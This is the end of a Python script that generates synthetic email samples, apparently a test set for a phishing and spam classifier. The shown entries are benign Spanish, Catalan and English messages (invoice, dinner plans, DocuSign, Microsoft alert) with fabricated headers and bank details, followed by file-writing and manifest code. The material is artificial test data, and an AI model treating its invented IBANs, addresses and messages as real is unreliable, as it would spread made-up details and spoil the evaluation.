                                             "Transferencia 30 dias - ES21 2100 4521 7302 0015 8840"], "F25-0211"))),
         desc="Genuine supplier invoice from a packaging firm's Google Workspace mailbox with its usual CaixaBank IBAN and a PDF, authentication passing."),

    dict(slug="ca-personal-sopar-dissabte", cat="clean", rc="movistar", date="2025-11-06T22:03:31+01:00",
         frm=("Núria Vila", "nuria.vila88@gmail.com"), to="jordi.puig@movistar.es", helo="mail-wr1-f41.google.com",
         ip="209.85.221.41", auth="pass pass pass", dkd="gmail.com", sel="20230601",
         mid="<CAM5rT2-Lp9Wq3Zx7Kn1_Yv8Hd0Gc4Fb6Ea@mail.gmail.com>", subj="Sopar de dissabte",
         body=gm("Hola Jordi!\n\nHo tenim tot lligat per dissabte: sopar a casa de la Laia a les 21 h. Cadascú porta alguna cosa; "
                 "jo faig la truita i tu podries portar el vi?\n\nSi voleu, després podem anar a fer una copa a la plaça.\n\n"
                 "Fins dissabte,\nNúria"),
         desc="Personal Catalan mail between friends arranging a Saturday dinner, Gmail to Movistar, no links."),

    dict(slug="ca-intern-pagament-proveidor", cat="clean", rc="m365", date="2025-05-29T12:26:40+02:00",
         frm=("Josep Bages", "josep.bages@transportsbages.cat"), to=("Marta Soler", "marta.soler@transportsbages.cat"),
         helo="PA4PR02MB6620.eurprd02.prod.outlook.com", ip="52.101.66.30", auth="pass pass pass", sel="selector1",
         mid="<PA4PR02MB6620E2B1C3D4A5F60718293A4B5C6@PA4PR02MB6620.eurprd02.prod.outlook.com>",
         subj="Factura Pneumàtics Osona",
         body=ol("Marta,\n\nquan puguis, paga avui la factura de Pneumàtics Osona (F-2025-0412, 3.180,40 €) dels pneumàtics del "
                 "camió 7. És el proveïdor de sempre, les dades bancàries ja les tens al programa.\n\nPer cert, aquest matí m'ha "
                 "arribat un correu estrany amb el meu nom des d'una adreça d'Outlook: si te n'arriba algun, no en facis cas.\n\n"
                 "Gràcies,\nJosep", "Josep Bages\nGerent – Transports Bages, S.L.\nTel. 938 72 41 15", "CA"),
         desc="Genuine internal Catalan payment request from the haulier's manager inside the company's own Microsoft 365 tenant, for a known supplier already on file."),

    dict(slug="es-docusign-renovacion-alquiler", cat="bulk", rc="gmail", date="2025-06-30T11:52:17+02:00",
         frm=("Finques Montseny via DocuSign", "dse@eumail.docusign.net"), to="alex.romero.bcn@gmail.com",
         rp="bounces+e2b7c9@eumail.docusign.net", helo="mailfr.eumail.docusign.net", ip="185.166.143.79", auth="pass pass pass",
         dkd="eumail.docusign.net", pol="p=REJECT sp=REJECT", subj="Complete con DocuSign: Renovacion_contrato_Gracia_2025.pdf",
         body=brand("#1e4ca1", "DocuSign", "Finques Montseny le ha enviado un documento para revisar y firmar.", [
             "<b>Mireia Casals – Finques Montseny</b><br>mireia.casals@finquesmontseny.com",
             "Hola Álex, como hablamos por teléfono te envío la renovación del contrato del piso de Gràcia con la actualización "
             "del IPC. Cualquier duda me llamas a la oficina."],
             ("REVISAR DOCUMENTO", "https://eu.docusign.net/Signing/EmailStart.aspx?a=" + tok("l24a", 8) + "-" + tok("l24b", 4)
              + "-" + tok("l24c", 4) + "-" + tok("l24d", 12) + "&etti=24&acct=" + tok("l24e", 8) + "&er=" + tok("l24f", 8)),
             "No comparta este correo electrónico. Este mensaje contiene un enlace seguro a DocuSign.", lang="es"),
         desc="Genuine DocuSign envelope from a property agency for a lease renewal, DocuSign authentication passing, sender using her company domain."),

    dict(slug="en-microsoft-unusual-signin", cat="bulk", rc="outlook", date="2025-08-11T06:48:03+02:00",
         frm=("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"), to="p.sanchez@outlook.es",
         helo="BN8NAM12HT213.eop-nam12.prod.protection.outlook.com", ip="40.92.22.56", auth="pass pass pass", sel="selector1",
         subj="Microsoft account unusual sign-in activity",
         body=brand("#2672ec", "Microsoft account", "Unusual sign-in activity", [
             "We detected something unusual about a recent sign-in to the Microsoft account p*****z@outlook.es.",
             "<b>Sign-in details</b><br>Country/region: Portugal<br>IP address: 85.241.102.17<br>Date: 11/08/2025 04:31 (GMT)<br>"
             "Platform: Windows<br>Browser: Edge",
             "Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help "
             "you secure your account. If this was you, we'll trust similar activity in the future."],
             ("Review recent activity", "https://account.live.com/Activity"),
             "To opt out or change where you receive security notifications, <a href=\"https://account.live.com/SecurityNotifications/"
             "Update\">click here</a>. Thanks, The Microsoft account team", lang="en"),
         desc="Genuine Microsoft account unusual sign-in alert from accountprotection.microsoft.com with passing authentication and links only to account.live.com."),
]

# ---- main (message chunks are above this line)

KIND = {"phishing": "phish", "malware": "phish", "clean": "legit", "bulk": "bulk", "spam": "spam"}


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {
    "b27-bulk-it-ade-precompilata-disponibile": "clean", "b27-bulk-it-intesa-nuovo-accesso": "clean",
    "b27-bulk-it-aruba-servizi-in-scadenza": "clean", "b27-bulk-es-correos-envio-en-reparto": "clean",
    "b27-bulk-es-caixabank-extracto-tarjeta": "clean",
    # an attack that only links to a download (no program attached) goes under phishing, as in set 15
    "b27-phish-es-aeat-dehu-dropbox-zip": "phishing",
}


def main() -> None:
    counts: dict[str, int] = {}
    lines, seen = [], set()
    for m in MSGS:
        name = f"b27-{KIND[m['cat']]}-{m['slug']}.eml"
        assert name not in seen, name
        seen.add(name)
        raw = build(m)
        check(raw, name)
        out = MAIL / REFILED.get(name[:-4], m["cat"]) / name
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(raw)
        lines.append(f"samples/mail/{REFILED.get(name[:-4], m['cat'])}/{name} | {m['cat']} | {m['desc']}")
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    attacks = counts.get("phishing", 0) + counts.get("malware", 0)
    legit = counts.get("clean", 0) + counts.get("bulk", 0)
    print(f"wrote {len(MSGS)} messages: {counts} (attacks {attacks}, legitimate {legit})")
    if len(MSGS) >= 75:
        assert attacks == 50 and legit == 25, counts


if __name__ == "__main__":
    main()
